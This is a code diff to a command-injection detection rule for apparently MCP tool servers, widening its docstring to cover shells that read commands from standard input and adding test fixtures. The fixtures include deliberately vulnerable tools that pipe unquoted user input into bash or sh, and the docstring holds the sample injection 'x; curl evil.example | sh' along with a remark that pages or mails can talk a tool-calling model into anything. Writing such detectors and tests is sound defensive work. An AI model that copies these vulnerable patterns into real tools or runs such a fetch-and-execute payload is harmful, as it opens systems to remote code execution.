@@ -20,11 +20,10 @@ class CommandInjection(Rule):
     """
     ## What it finds
     An argument of a call that becomes part of a command line for a shell (`shell=True`, `os.system`, `sh -c`, the
-    command of `ssh` or `docker exec`), of code for an interpreter, of a template, or of what `pickle` and unsafe YAML
-    loaders make objects from. A check that leaves the special
-    characters of a shell counts as none: a first word, a prefix, a list of forbidden characters. An argument that
-    may begin with `-` and goes to a program whose options run others (`git --upload-pack`) is reported with less
-    weight.
+    command of `ssh` or `docker exec`, what a shell reads from its standard input), of code for an interpreter, of a
+    template, or of what `pickle` and unsafe YAML loaders make objects from. A check that leaves the special characters
+    of a shell counts as none: a first word, a prefix, a list of forbidden characters. An argument that may begin with
+    `-` and goes to a program whose options run others (`git --upload-pack`) is reported with less weight.
 
     ## Why it matters
     The caller of a tool is a model that a page or a mail can talk into anything. `x; curl evil.example | sh` in a
@@ -308,6 +307,62 @@ class CommandInjection(Rule):
             mcp.run()
             """,
             note="quoted, matched as a whole, listed, looked up, typed, without a shell",
+        ),
+        py(
+            """
+            import asyncio
+            import subprocess
+            from fastmcp import FastMCP
+
+            mcp = FastMCP("shells")
+
+            @mcp.tool
+            def listed(folder: str) -> str:
+                return subprocess.run(["bash", "-s"], input=f"ls {folder}", text=True).stdout  # finding
+
+            @mcp.tool
+            def counted(folder: str) -> str:
+                process = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+                out, _ = process.communicate(f"ls {folder} | wc -l")  # finding
+                return out
+
+            @mcp.tool
+            async def sized(folder: str) -> None:
+                process = await asyncio.create_subprocess_exec("bash", stdin=asyncio.subprocess.PIPE)
+                process.stdin.write(f"du {folder}\\n".encode())  # finding
+
+            mcp.run()
+            """,
+            note="on the standard input of a shell",
+        ),
+        py(
+            """
+            import shlex
+            import subprocess
+            from fastmcp import FastMCP
+
+            mcp = FastMCP("filters")
+
+            @mcp.tool
+            def sorted_lines(text: str) -> str:
+                return subprocess.run(["sort"], input=f"# {text}", text=True, capture_output=True).stdout
+
+            @mcp.tool
+            def by_script(text: str) -> str:
+                return subprocess.run(["bash", "count.sh"], input=f"# {text}", text=True, capture_output=True).stdout
+
+            @mcp.tool
+            def by_line(text: str) -> str:
+                process = subprocess.Popen(["sh", "-c", "wc -l"], stdin=subprocess.PIPE, text=True)
+                return process.communicate(f"# {text}")[0]
+
+            @mcp.tool
+            def quoted(folder: str) -> str:
+                return subprocess.run(["bash"], input=f"ls -- {shlex.quote(folder)}", text=True).stdout
+
+            mcp.run()
+            """,
+            note="on the standard input of something else, or quoted",
         ),
     )
 
